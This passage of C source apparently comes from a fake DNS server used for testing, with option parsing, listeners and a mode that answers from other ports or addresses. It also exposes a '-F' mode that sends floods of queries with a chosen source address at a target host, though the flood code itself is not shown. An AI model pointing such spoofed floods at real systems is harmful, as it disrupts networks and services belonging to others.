				: ldns_get_rr_type_by_name(qtype);
	uint8_t *wire = NULL;
	size_t len;

	if (!type || ldns_pkt_query_new_frm_str(&q, qname, type,
					        LDNS_RR_CLASS_IN, 0) !=
			     LDNS_STATUS_OK)
		die("bad question %s %s", qname, qtype);
	ldns_pkt_set_edns_udp_size(q, 4096);
	ldns_pkt_set_edns_do(q, true);
	len = answer(q, match(q, false), 4096, &wire);
	fwrite(wire, 1, len, stdout);
	free(wire);
	ldns_pkt_free(q);
	return 0;
}

int main(int argc, char **argv)
{
	const char *addr = NULL, *addr2 = NULL, *logpath = NULL;
	const char *dq = NULL, *src = NULL, *dst = NULL, *ports = NULL;
	const char *fq = NULL, *ft = "CDS";
	unsigned port = 53, sweeps = 1;
	double secs = 0;
	bool do_flood = false, ft_set = false;
	struct event *ev[4];
	int c, tfd;

	S.log = stderr;
	srandom((unsigned)getpid());
	while ((c = getopt(argc, argv, "a:p:l:A:r:d:Fs:t:P:c:D:q:T:")) != -1) {
		switch (c) {
		case 'a': addr = optarg; break;
		case 'p': port = (unsigned)atoi(optarg); break;
		case 'l': logpath = optarg; break;
		case 'A': addr2 = optarg; break;
		case 'r': parse_rule(optarg); break;
		case 'd': dq = optarg; break;
		case 'F': do_flood = true; break;
		case 's': src = optarg; break;
		case 't': dst = optarg; break;
		case 'P': ports = optarg; break;
		case 'c': sweeps = (unsigned)atoi(optarg); break;
		case 'D': secs = atof(optarg); break;
		case 'q': fq = optarg; break;
		case 'T': ft = optarg; ft_set = true; break;
		default: die("bad usage (see the comment at the top)");
		}
	}
	if (do_flood) {
		if (!src || !dst || !fq)
			die("-F needs -s, -t and -q");
		return flood(src, dst, ports, sweeps, secs, fq, ft);
	}
	for (int i = optind; i < argc; i++)
		load_zone(argv[i]);
	if (dq) {
		if (optind >= argc)
			die("-d needs ZONEFILE...");
		return dump(dq, ft_set ? ft : "ANY");
	}
	if (!addr)
		die("-a ADDR is required");
	if (logpath && !(S.log = fopen(logpath, "a")))
		die("%s: %s", logpath, strerror(errno));
	signal(SIGPIPE, SIG_IGN);
	S.base = event_base_new();
	S.udp_fd = sock_at(addr, (uint16_t)port, SOCK_DGRAM);
	tfd = sock_at(addr, (uint16_t)port, SOCK_STREAM);
	S.other_port_fd = sock_at(addr, 0, SOCK_DGRAM);
	if (addr2)
		S.other_addr_fd = sock_at(addr2, (uint16_t)port, SOCK_DGRAM);
	ev[0] = event_new(S.base, S.udp_fd, EV_READ | EV_PERSIST, udp_cb, NULL);
	ev[1] = event_new(S.base, tfd, EV_READ | EV_PERSIST, accept_cb, NULL);
	ev[2] = evsignal_new(S.base, SIGTERM, on_term, NULL);
	ev[3] = evsignal_new(S.base, SIGINT, on_term, NULL);
	for (int i = 0; i < 4; i++)
		event_add(ev[i], NULL);
	printf("ready\n");
	fflush(stdout);
	event_base_dispatch(S.base);
	for (int i = 0; i < 4; i++)
		event_free(ev[i]);
	event_base_free(S.base);
	return 0;
}
